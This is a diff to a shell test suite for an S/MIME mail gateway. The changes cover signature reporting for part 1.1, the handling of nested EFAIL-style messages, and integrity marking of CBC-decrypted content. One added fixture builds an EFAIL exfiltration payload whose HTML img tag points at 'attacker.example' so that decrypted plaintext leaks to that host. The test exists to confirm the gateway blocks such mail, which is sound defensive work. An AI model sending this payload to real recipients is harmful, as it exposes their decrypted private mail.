@@ -423,14 +423,14 @@ list_wrap() {  # CASE SIGNED-CASE [SENDER]: the signed mail's Content-Type and b
 }
 list_wrap list-footer det-plain
 run list-footer
-if [ "$RC" = 0 ] && grep -q '^mx.acme.example; smime=pass body.smime-identifier=dave@partner.example body.smime-part=1 ' <<<"$(ar)" \
-   && grep -q 'action=verify-part smime=pass part=1 signer=dave@partner.example' <<<"$LOG" \
+if [ "$RC" = 0 ] && grep -q '^mx.acme.example; smime=pass reason="signature over part 1.1 only, not the whole message" body.smime-identifier=dave@partner.example body.smime-part=1.1 ' <<<"$(ar)" \
+   && grep -q 'action=verify-part smime=pass part=1.1 signer=dave@partner.example' <<<"$LOG" \
    && cmp -s <(entity_body "$WORK/out/list-footer.eml" /dev/stdout) <(entity_body "$OUT" /dev/stdout)
 then pass list-footer; else fail list-footer "exit $RC: $(ar) $LOG"; fi
 perl -pe 's/the figures for Q3/the figures for Q4/' "$WORK/out/det-plain.eml" >"$WORK/out/det-tampered.eml"
 list_wrap list-footer-tampered det-tampered
 run list-footer-tampered
-if [ "$RC" = 0 ] && grep -q '^mx.acme.example; smime=fail reason="message digest mismatch" .*body.smime-part=1 ' <<<"$(ar)"
+if [ "$RC" = 0 ] && grep -q '^mx.acme.example; smime=fail reason="message digest mismatch" .*body.smime-part=1.1 ' <<<"$(ar)"
 then pass list-footer-tampered; else fail list-footer-tampered "exit $RC: $(ar) $LOG"; fi
 list_wrap list-footer-strict det-plain strict@partner.example
 run list-footer-strict keep strict@partner.example
@@ -577,6 +577,51 @@ for c in certs-only:certs-only:cert.p7c:0 enveloped:enveloped-data:smime.p7m:1; 
   if [ "$want" = 0 ] && [ "$RC" = 0 ] && grep -q 'action=none' <<<"$LOG"; then pass "$cn"
   elif [ "$want" = 1 ] && [ "$RC" = 1 ] && grep -q '554 5.7.1' <<<"$LOG"; then pass "$cn"
   else fail "$cn" "exit $RC (expected $want): $LOG"; fi
+done
+# The same EFAIL shape (HTML, a captured ciphertext for alice, HTML) where a look at the received
+# structure does not reach it: inside the attacker's own encryption to alice, inside an opaque
+# signature, inside compressed-data. Under "reject" none is delivered (until 2026-12-02 all
+# three were): the decrypted one takes the one way of undecryptable mail (held, RFC 3218),
+# the others are refused. Under "keep" they are delivered, the nested ciphertext untouched.
+EF=$WORK/m/efail.entity
+{ printf 'Content-Type: multipart/mixed; boundary="ef"\r\n\r\n--ef\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
+  printf -- '--ef\r\n%s\r\nContent-Transfer-Encoding: base64\r\n\r\n' "$ENV"; b64 "$WORK/m/aes256.der"
+  printf -- '--ef\r\nContent-Type: text/html\r\n\r\n">\r\n--ef--\r\n'; } >"$EF"
+o -encrypt -binary -aes256 -in "$EF" -outform DER -out "$WORK/m/efail-enc.der" "$A"
+o -sign -binary -nodetach "${SIGN[@]}" -in "$EF" -outform DER -out "$WORK/m/efail-opq.der"
+compressed "$WORK/m/efail-comp.der" "$EF"
+cms_mail efail-in-encryption efail-enc.der "$ENV"
+cms_mail efail-in-opaque-signature efail-opq.der "$OPQ"
+cms_mail efail-in-compressed efail-comp.der "$CMP"
+for c in efail-in-encryption:0:'action=hold .*nested-encrypted-part .*undecryptable=hold' \
+         efail-in-opaque-signature:1:'action=reject nested-encrypted-part .*554 5\.7\.1' \
+         efail-in-compressed:1:'action=reject nested-encrypted-part .*554 5\.7\.1'; do
+  IFS=: read -r cn want re <<<"$c"
+  run "$cn" reject
+  if [ "$RC" = "$want" ] && grep -Eq -- "$re" <<<"$LOG" && ! grep -q 'attacker.example' "$OUT"; then pass "$cn-reject"
+  else fail "$cn-reject" "exit $RC (expected $want): $LOG"; fi
+  run "$cn" keep
+  if [ "$RC" = 0 ] && ! grep -q nested-encrypted-part <<<"$LOG"; then pass "$cn-keep"
+  else fail "$cn-keep" "exit $RC: $LOG"; fi
+done
+
+# --- 11. integrity of decrypted content (EFAIL CBC gadgets) -----------------------------------------
+# CBC content can be changed block by block without breaking its padding: decrypted content that
+# is neither AuthEnvelopedData nor signed inside the encryption by a signer that passed carries
+# X-SSM-Integrity: none (...) under X-SSM-Decrypted; a field of that name from outside is removed.
+# (Outputs of the cases above; the forged field in a copy of enc-aes128.)
+perl -pe 's/^(Subject: [^\r]*\r\n)/$1X-SSM-Integrity: aead\r\n/' "$WORK/out/enc-aes128.eml" >"$WORK/out/integrity-forged.eml"
+run integrity-forged
+for c in enc-aes128:'none (aes128-cbc, no valid signature inside the encryption)' enc-3des:'none (des-ede3-cbc, no valid signature inside the encryption)' \
+         sign-then-encrypt-lf-changed:'none (aes256-cbc, no valid signature inside the encryption)' \
+         integrity-forged:'none (aes128-cbc, no valid signature inside the encryption)' \
+         enc-gcm: sign-then-encrypt: triple-wrap:; do
+  cn=${c%%:*} want=${c#*:}
+  got=$(header_field "$WORK/out/$cn.out" X-SSM-Integrity 2>/dev/null | tr '\n' '|')
+  second=$(awk 'NR == 2 { print; exit }' "$WORK/out/$cn.out" | tr -d '\r')
+  if [ -z "$want" ] && [ -z "$got" ]; then pass "integrity-$cn"
+  elif [ -n "$want" ] && [ "$got" = "$want|" ] && [ "$second" = "X-SSM-Integrity: $want" ]; then pass "integrity-$cn"
+  else fail "integrity-$cn" "X-SSM-Integrity: '$got' (expected '$want'), second line '$second'"; fi
 done
 
 note "took $((SECONDS - T0)) s"
